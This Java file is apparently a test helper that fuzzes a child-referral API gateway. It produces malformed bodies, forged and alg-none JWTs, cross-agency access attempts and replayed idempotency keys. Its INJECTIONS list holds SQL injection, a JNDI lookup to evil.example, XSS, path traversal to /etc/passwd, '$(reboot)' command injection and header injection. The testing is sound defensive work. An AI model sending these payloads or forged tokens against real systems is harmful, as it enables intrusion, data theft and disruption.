package id.rujukan.gateway;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.io.ByteArrayOutputStream;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.UUID;

/**
 * Generates malformed and hostile requests against the gateway, each one that must be refused: random and
 * truncated JSON, wrong types, huge strings and arrays, deep nesting, invalid UTF-8, injection strings
 * where only a code or an id belongs, forged, expired and other-agency tokens, replayed idempotency keys.
 * Seeded, so a failure can be replayed.
 */
final class HostileRequests {

    /** One request: what it is (for the report), method, path, headers, body (null for none). */
    record Hostile(String kind, String method, String path, Map<String, String> headers, byte[] body) {
    }

    static final List<String> INJECTIONS = List.of("' OR '1'='1", "\"; DROP TABLE referral_view; --",
            "${jndi:ldap://evil.example/a}", "<script>alert(1)</script>", "../../../../etc/passwd", "%00", "\u0000",
            "{{7*7}}", "#{7*7}", "$(reboot)", "\r\nX-Injected: 1", "١٦٠٨", "1608014107260001 OR 1=1", "null", "",
            " ", "\u202Edinsos-1608", "dinsos-1608\u0000", "DINSOS-1608", "rutan-martapura; kemensos");
    /** Fields where only a code, an id, an enum or a date belongs: any injection string there is invalid. */
    private static final List<String[]> STRICT_FIELDS = List.of(new String[] {"referringAgencyId"},
            new String[] {"targetAgencyId"}, new String[] {"urgency"}, new String[] {"category"},
            new String[] {"serviceNeeded"}, new String[] {"child", "sex"}, new String[] {"child", "nik"},
            new String[] {"child", "birthDate"}, new String[] {"childRegion", "provinceCode"},
            new String[] {"childRegion", "regencyCode"});
    private static final int KINDS = 14;

    private final Random random;
    private final ObjectMapper json;
    private final String agency;
    private final String token;
    private final String validBody;
    private final String referralId;
    private final String usedIdempotencyKey;

    HostileRequests(long seed, ObjectMapper json, String agency, String validBody, String referralId,
            String usedIdempotencyKey) {
        this.random = new Random(seed);
        this.json = json;
        this.agency = agency;
        this.token = Tokens.agency(agency);
        this.validBody = validBody.strip();
        this.referralId = referralId;
        this.usedIdempotencyKey = usedIdempotencyKey;
    }

    Hostile next(int index) {
        return switch (index % KINDS) {
            case 0 -> submit("random bytes", randomBytes(random.nextInt(2000)));
            case 1 -> submit("truncated JSON", utf8(validBody.substring(0, random.nextInt(validBody.length() - 1))));
            case 2 -> submit("wrong type", utf8(withWrongType()));
            case 3 -> submit("huge string", utf8(withHugeString()));
            case 4 -> submit("huge array", utf8(hugeArray()));
            case 5 -> submit("deep nesting", utf8(deeplyNested()));
            case 6 -> submit("invalid UTF-8", invalidUtf8());
            case 7 -> submit("injection in a code or id", utf8(withInjection()));
            case 8 -> new Hostile("forged token", "POST", "/api/v1/referrals", Map.of("Authorization",
                    "Bearer " + forgedToken(), "Content-Type", "application/json"), utf8(validBody));
            case 9 -> new Hostile("expired or foreign token", "POST", "/api/v1/referrals", Map.of("Authorization",
                    "Bearer " + (random.nextBoolean() ? Tokens.expired(agency) : Tokens.fromAnotherIssuer(agency)),
                    "Content-Type", "application/json"), utf8(validBody));
            case 10 -> otherAgency();
            case 11 -> new Hostile("replayed idempotency key", "POST", "/api/v1/referrals", Map.of("Authorization",
                    "Bearer " + token, "Content-Type", "application/json", "Idempotency-Key", usedIdempotencyKey),
                    utf8(validBody.replace("\"HIGH\"", "\"EMERGENCY\"").replace("Jl. ", "Jalan " + random.nextInt())));
            case 12 -> new Hostile("injection in the path", random.nextBoolean() ? "GET" : "POST",
                    "/api/v1/referrals/" + URLEncoder.encode(pick(INJECTIONS) + random.nextInt(), StandardCharsets.UTF_8)
                            + (random.nextBoolean() ? "" : "/accept"),
                    Map.of("Authorization", "Bearer " + token, "Content-Type", "application/json"), utf8("{}"));
            default -> protocolAbuse();
        };
    }

    private Hostile submit(String kind, byte[] body) {
        return new Hostile(kind, "POST", "/api/v1/referrals",
                Map.of("Authorization", "Bearer " + token, "Content-Type", "application/json",
                        "Idempotency-Key", UUID.randomUUID().toString()), body);
    }

    private String withWrongType() {
        ObjectNode body = parse();
        JsonNodeFactory nodes = JsonNodeFactory.instance;
        String[] path = pick(List.of(new String[] {"referringAgencyId"}, new String[] {"urgency"},
                new String[] {"category"}, new String[] {"child"}, new String[] {"childRegion"}, new String[] {"consent"},
                new String[] {"summary"}, new String[] {"child", "name"}, new String[] {"child", "birthDate"},
                new String[] {"consent", "given"}, new String[] {"childRegion", "provinceCode"}));
        JsonNode current = at(body, path);
        JsonNode wrong = switch (random.nextInt(4)) {
            case 0 -> current.isArray() ? nodes.objectNode() : nodes.arrayNode().add(1).add("x");
            case 1 -> current.isObject() ? nodes.numberNode(random.nextInt()) : nodes.objectNode().put("x", 1);
            case 2 -> current.isBoolean() ? nodes.textNode("yes please") : nodes.arrayNode();
            default -> current.isNumber() ? nodes.textNode("x") : nodes.numberNode(random.nextDouble() * 1e6);
        };
        set(body, path, wrong);
        return body.toString();
    }

    private String withHugeString() {
        ObjectNode body = parse();
        String[] path = pick(List.of(new String[] {"summary"}, new String[] {"child", "name"},
                new String[] {"child", "address"}, new String[] {"consent", "givenBy"}, new String[] {"targetAgencyId"}));
        // longer than the field may be, and sometimes longer than the body may be
        int length = random.nextBoolean() ? 8_001 + random.nextInt(50_000) : 70_000 + random.nextInt(200_000);
        set(body, path, JsonNodeFactory.instance.textNode("A".repeat(length)));
        return body.toString();
    }

    private String hugeArray() {
        StringBuilder array = new StringBuilder("[");
        int length = 1_000 + random.nextInt(40_000);
        for (int i = 0; i < length; i++) {
            array.append(i == 0 ? "" : ",").append(random.nextInt(10));
        }
        array.append(']');
        if (random.nextBoolean()) {
            return array.toString();
        }
        ObjectNode body = parse();
        return body.toString().replace("\"summary\":", "\"summary\":" + array + ",\"x\":");
    }

    private String deeplyNested() {
        int depth = 1_001 + random.nextInt(20_000);
        String open = random.nextBoolean() ? "[" : "{\"child\":";
        String close = open.equals("[") ? "]" : "}";
        return open.repeat(depth) + "1" + close.repeat(depth);
    }

    private byte[] invalidUtf8() {
        byte[][] bad = {{(byte) 0xC3, 0x28}, {(byte) 0xFF}, {(byte) 0xED, (byte) 0xA0, (byte) 0x80},
                {(byte) 0xF8, (byte) 0x88, (byte) 0x80, (byte) 0x80, (byte) 0x80}, {(byte) 0xC0, (byte) 0xAF}};
        String marker = "Jl. Lintas";
        int at = validBody.indexOf(marker);
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.writeBytes(utf8(validBody.substring(0, at)));
        out.writeBytes(bad[random.nextInt(bad.length)]);
        out.writeBytes(utf8(validBody.substring(at)));
        return out.toByteArray();
    }

    private String withInjection() {
        ObjectNode body = parse();
        set(body, pick(STRICT_FIELDS), JsonNodeFactory.instance.textNode(pick(INJECTIONS)));
        return body.toString();
    }

    private String forgedToken() {
        String[] parts = token.split("\\.");
        return switch (random.nextInt(4)) {
            // the signature of another payload: another agency, the same key id
            case 0 -> Tokens.agency("kemensos").split("\\.")[0] + "." + parts[1].substring(0, parts[1].length() - 2)
                    + "xx." + parts[2];
            // signature bytes changed
            case 1 -> parts[0] + "." + parts[1] + "." + parts[2].substring(0, 10)
                    + (parts[2].charAt(10) == 'A' ? 'B' : 'A') + parts[2].substring(11);
            // "alg": "none"
            case 2 -> Base64.getUrlEncoder().withoutPadding().encodeToString(utf8("{\"alg\":\"none\",\"typ\":\"JWT\"}"))
                    + "." + parts[1] + ".";
            default -> Base64.getUrlEncoder().withoutPadding().encodeToString(randomBytes(40));
        };
    }

    private Hostile otherAgency() {
        String other = Tokens.agency("lksa-6371");
        String[] paths = {"", "/details", "/timeline", "/accept", "/decline", "/notes"};
        String path = "/api/v1/referrals/" + referralId + paths[random.nextInt(paths.length)];
        boolean post = path.endsWith("/accept") || path.endsWith("/decline") || path.endsWith("/notes");
        return new Hostile("another agency's referral", post ? "POST" : "GET", path,
                Map.of("Authorization", "Bearer " + other, "Content-Type", "application/json"),
                post ? utf8("{\"reason\":\"not ours\",\"note\":\"x\"}") : null);
    }

    private Hostile protocolAbuse() {
        return switch (random.nextInt(4)) {
            case 0 -> new Hostile("no token", "POST", "/api/v1/referrals", Map.of("Content-Type", "application/json"),
                    utf8(validBody));
            case 1 -> new Hostile("wrong content type", "POST", "/api/v1/referrals",
                    Map.of("Authorization", "Bearer " + token, "Content-Type", pick(List.of("text/plain",
                            "application/xml", "multipart/form-data; boundary=x", "application/x-www-form-urlencoded"))),
                    utf8(validBody));
            case 2 -> new Hostile("wrong method", pick(List.of("PUT", "DELETE", "PATCH")), "/api/v1/referrals",
                    Map.of("Authorization", "Bearer " + token, "Content-Type", "application/json"), utf8(validBody));
            default -> new Hostile("garbage query", "GET", "/api/v1/inbox?limit=" + URLEncoder.encode(
                    pick(List.of("-1", "0", "1000000", "abc", "1e9", "2147483648")), StandardCharsets.UTF_8),
                    Map.of("Authorization", "Bearer " + token), null);
        };
    }

    private ObjectNode parse() {
        try {
            return (ObjectNode) json.readTree(validBody);
        } catch (Exception e) {
            throw new IllegalStateException(e);
        }
    }

    private static JsonNode at(ObjectNode body, String[] path) {
        JsonNode node = body;
        for (String field : path) {
            node = node.get(field);
        }
        return node;
    }

    private static void set(ObjectNode body, String[] path, JsonNode value) {
        ObjectNode parent = body;
        for (int i = 0; i < path.length - 1; i++) {
            parent = (ObjectNode) parent.get(path[i]);
        }
        parent.set(path[path.length - 1], value);
    }

    private <T> T pick(List<T> items) {
        return items.get(random.nextInt(items.size()));
    }

    private byte[] randomBytes(int length) {
        byte[] bytes = new byte[length];
        random.nextBytes(bytes);
        return bytes;
    }

    private static byte[] utf8(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }
}
